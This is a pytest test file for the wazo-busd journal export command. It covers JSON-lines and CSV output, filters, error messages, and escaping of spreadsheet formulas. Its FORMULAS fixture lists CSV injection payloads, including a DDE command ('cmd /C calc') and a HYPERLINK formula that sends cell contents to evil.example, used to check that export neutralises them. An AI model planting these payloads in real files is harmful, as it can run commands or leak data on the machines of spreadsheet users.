# SPDX-License-Identifier: GPL-3.0-or-later
# SPDX-FileCopyrightText: The wazo-busd Authors
"""`wazo-busd journal export`: all that is kept, for programs and for spreadsheets, and nothing breaks out of a cell."""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from hypothesis import example, given
from hypothesis import strategies as st

from plugins.journal import Journal
from plugins.journal.record import KEYS
from tests.plugins.hostile import NAMES, names
from tests.unit.cli.conftest import Shell
from wazo_busd.api import Event, encode_json
from wazo_busd.cli.journal_form import FIELDS, cells, csv_line, json_line
from wazo_busd.testing import deliver, make_event

FORMULAS = (
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    ' \n =1',
    '\uff1d1',
    '\u200b=1',
    'a;=1+1',
    'a; =1+1',
    '";=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
)
TRIGGERS = '=+-@\uff1d\uff0b\uff0d\uff20'
SHORT = tuple(name[:500] for name in NAMES)
texts = names.map(lambda text: text[:500]) | st.sampled_from(FORMULAS) | st.text('=+-@;,"\'\t\r\n 1aA|', max_size=20)


class Journals:
    """A configuration with journals, and what is in them.

    Args:
        shell: a command line.
        directory: where all is put.
    """

    def __init__(self, shell: Shell, directory: Path) -> None:
        self.shell = shell
        self.directory = directory

    def configure(self, **handlers: dict[str, Any]) -> None:
        self.shell.config.write_text(
            json.dumps(
                {
                    'state_dir': str(self.directory / 'state'),
                    'plugin_dirs': [],
                    'handlers': {
                        name: {'plugin': 'journal', 'match': 'calls.#', **more} for name, more in handlers.items()
                    },
                }
            )
        )

    def write(self, handler: str, *events: Event, **options: Any) -> None:
        place = self.directory / 'state' / 'handlers' / handler
        place.mkdir(parents=True, exist_ok=True)
        asyncio.run(deliver(Journal, *events, options=options, name=handler, state_dir=place))

    def export(self, *arguments: str, stdin: bytes | None = None) -> Result:
        return self.shell('journal', 'export', *arguments, '-c', str(self.shell.config), stdin=stdin)


@pytest.fixture
def journals(shell: Shell, tmp_path: Path) -> Journals:
    made = Journals(shell, tmp_path)
    made.configure(calls={})
    return made


def data(result: Result) -> list[Any]:
    """The data of what was exported as JSON lines."""
    assert result.exit_code == 0, result.output
    return [json.loads(line)['data'] for line in result.stdout.splitlines()]


def table(result: Result) -> list[dict[str, str]]:
    """What was exported as CSV."""
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline='')))


# ---- what is written


def test_the_only_journal_is_exported_as_json_lines(journals: Journals) -> None:
    journals.write('calls', make_event('call_created', 1), make_event('call_ended', 2))

    assert data(journals.export()) == [1, 2]


@pytest.mark.parametrize('form', ['jsonl', 'sqlite'])
def test_a_line_is_the_record_that_was_written(journals: Journals, form: str) -> None:
    journals.configure(calls={'options': {'format': form}})
    given = make_event('call_created', {'call_id': '1', 'odd': 'a\0\ud800b'})
    journals.write('calls', given, format=form)

    (record,) = [json.loads(line) for line in journals.export('calls', '--jsonl').stdout.splitlines()]

    assert (list(record), record['id'], record['data']) == (list(KEYS), given.id, given.data)


def test_csv_has_a_column_for_each_key_and_json_in_two(journals: Journals) -> None:
    journals.write('calls', make_event('call_created', {'call_id': '1', 'text': 'a "b", c\nd'}))

    (row,) = table(journals.export('--csv'))

    assert tuple(row) == FIELDS == KEYS
    assert (row['name'], row['redelivered'], json.loads(row['data'])['text']) == (
        'call_created',
        'false',
        'a "b", c\nd',
    )


def test_csv_has_the_columns_that_are_asked_for(journals: Journals) -> None:
    journals.write('calls', make_event('call_created', {'number': '+15551234567', 'of': [{'a': 1}], 'no': None}))

    fields = ['name', 'data.number', 'data.of.0.a', 'data.of', 'data.no', 'data.of.7', 'nothing.at.all']
    (row,) = table(journals.export('--csv', *(word for field in fields for word in ('--field', field))))

    assert list(row.items()) == list(
        zip(fields, ['call_created', '+15551234567', '1', '[{"a":1}]', '', '', ''], strict=True)
    )


def test_rotated_and_compressed_files_are_exported_first(journals: Journals) -> None:
    journals.write('calls', make_event('call_created', 2))
    place = journals.directory / 'state' / 'handlers' / 'calls'
    line = b'{"received_at": "2026-01-01T00:00:00.000000+00:00", "data": 1}\n'
    (place / 'journal-2026-01-01.1.jsonl.gz').write_bytes(gzip.compress(line))

    assert data(journals.export()) == [1, 2]


def test_a_file_is_exported_without_a_configuration(journals: Journals) -> None:
    journals.write('calls', make_event('call_created', 1))
    file = journals.directory / 'state' / 'handlers' / 'calls' / 'journal.jsonl'
    journals.shell.config.unlink()

    assert data(journals.export('--file', str(file))) == [1]


def test_standard_input_is_exported(journals: Journals) -> None:
    assert data(journals.export('--file', '-', stdin=b'{"received_at": "2026", "data": 1}\n')) == [1]


@pytest.mark.parametrize(
    ('arguments', 'expected'),
    [
        (['--since', '1h'], [1, 2]),
        (['--until', '1h'], []),
        (['--since', '2099-01-01'], []),
        (['--until', '2099-01-01T00:00:00+00:00'], [1, 2]),
        (['--name', 'call_ended'], [2]),
    ],
)
def test_only_what_is_asked_for_is_exported(journals: Journals, arguments: list[str], expected: list[int]) -> None:
    journals.write('calls', make_event('call_created', 1), make_event('call_ended', 2))

    assert data(journals.export(*arguments)) == expected


def test_a_journal_that_rests_is_exported(journals: Journals) -> None:
    journals.configure(calls={'enabled': False})
    journals.write('calls', make_event('call_created', 1))

    assert data(journals.export()) == [1]


# ---- what is refused


@pytest.mark.parametrize(
    ('arguments', 'code', 'text'),
    [
        (['call'], 1, r"error: there is no handler 'call'. next: did you mean 'calls'\?"),
        (
            ['bell'],
            1,
            r'uses the plugin log, which keeps no records. next: wazo-busd journal export -c \S+ calls',
        ),
        (['calls'], 1, r'error: \S*journal.jsonl cannot be read: No such file or directory. next: ls -l \S*'),
        ([], 1, r'error: there is more than one journal: calls, faxes. next: wazo-busd journal export -c \S+ calls'),
        (['--file', '/nowhere/x.jsonl'], 1, 'error: /nowhere/x.jsonl cannot be read: No such file'),
        (['calls', '--file', 'x'], 2, 'either HANDLER or --file'),
        (['calls', '--field', 'x'], 2, '--field is of --csv'),
        (['calls', '--since', 'soon'], 2, '--since soon: expected how long ago, as in 7d, or a time'),
        (['calls', '--until', '9999-99-99'], 2, '--until 9999-99-99: expected'),
    ],
)
def test_what_cannot_be_exported_is_told_with_what_to_type(
    journals: Journals, arguments: list[str], code: int, text: str
) -> None:
    journals.configure(calls={}, faxes={}, bell={'plugin': 'log'})

    found = journals.export(*arguments)

    assert (found.exit_code, bool(re.search(text, found.stderr))) == (code, True), found.stderr


def test_without_a_journal_it_says_so(journals: Journals) -> None:
    journals.configure()

    assert journals.export().stderr.startswith('error: no handler uses the plugin journal. next: wazo-busd journal')


@pytest.mark.parametrize('handlers', [{'calls': {'options': {'pat': '/x'}}}, {'calls': {'concurency': 1}}])
def test_a_wrong_configuration_is_told_and_ends_with_78(journals: Journals, handlers: dict[str, Any]) -> None:
    journals.configure(**handlers)

    assert journals.export().exit_code == 78


def test_something_else_in_a_file_is_told_with_its_line(journals: Journals) -> None:
    found = journals.export('--file', '-', stdin=b'{"received_at": "2026", "data": 1}\nsomething else\n')

    assert (found.exit_code, found.stderr) == (
        1,
        journals.shell.typed('error: standard input:2: this is no record of a journal. next: wazo-busd check\n'),
    )


# ---- hostile texts


def record(text: str) -> dict[str, Any]:
    """A record with a text in every place, as it is read from a journal."""
    made: dict[str, Any] = json.loads(
        encode_json({**dict.fromkeys(FIELDS, text), 'headers': {text: text}, 'data': [text, {'deep': text}]})
    )
    return made


@given(texts)
@example(''.join(SHORT))
def test_whatever_a_text_is_it_is_one_line_of_json_with_the_same_in_it(text: str) -> None:
    line = json_line(record(text))

    assert (line.isprintable(), json.loads(line)) == (True, record(text))


@given(st.lists(texts, min_size=1, max_size=4))
@example(SHORT)
@example(FORMULAS)
def test_whatever_the_texts_are_there_is_one_row_for_each(found: Sequence[str]) -> None:
    written = ''.join(csv_line(cells(record(text), FIELDS)) for text in found)

    rows = list(csv.reader(io.StringIO(written, newline='')))
    assert [len(row) for row in rows] == [len(FIELDS)] * len(found)
    assert written.replace('\r\n', '').isprintable()


@given(texts)
@example(''.join(SHORT))
@example(';'.join(FORMULAS))
def test_data_in_csv_is_json_with_the_same_in_it(text: str) -> None:
    made = record(text)

    headers, inner = cells(made, ['headers', 'data'])

    assert (json.loads(headers), json.loads(inner)) == (made['headers'], made['data'])


@pytest.mark.parametrize('delimiter', [',', ';', '\t'])
@given(texts)
@example('-0')
@example(';"=')
@example(';"")=')
@example(';" "=')
def test_no_cell_begins_a_formula_however_a_spreadsheet_separates_cells(delimiter: str, text: str) -> None:
    made = record(text)

    written = csv_line(cells(made, [*FIELDS, 'data.0', 'data.1.deep']))

    for row in csv.reader(io.StringIO(written, newline=''), delimiter=delimiter):
        assert [cell for cell in row if is_formula(cell)] == []


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take it for one; a number is none."""
    return cell.strip()[:1] in tuple(TRIGGERS) and not re.fullmatch(r'[+-]?[0-9]+', cell.strip())


@pytest.mark.parametrize('text', ['=1+1', '+1+1', '-2+3', '@SUM(1)', ' =1', '\uff1d1', '=1\t2'])
def test_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    assert cells({'name': text}, ['name'])[0].startswith("'")


@pytest.mark.parametrize('number', ['+15551234567', '-5', '5', '*98', '#1'])
def test_a_number_stays_a_number(number: str) -> None:
    assert cells({'name': number}, ['name']) == [number]
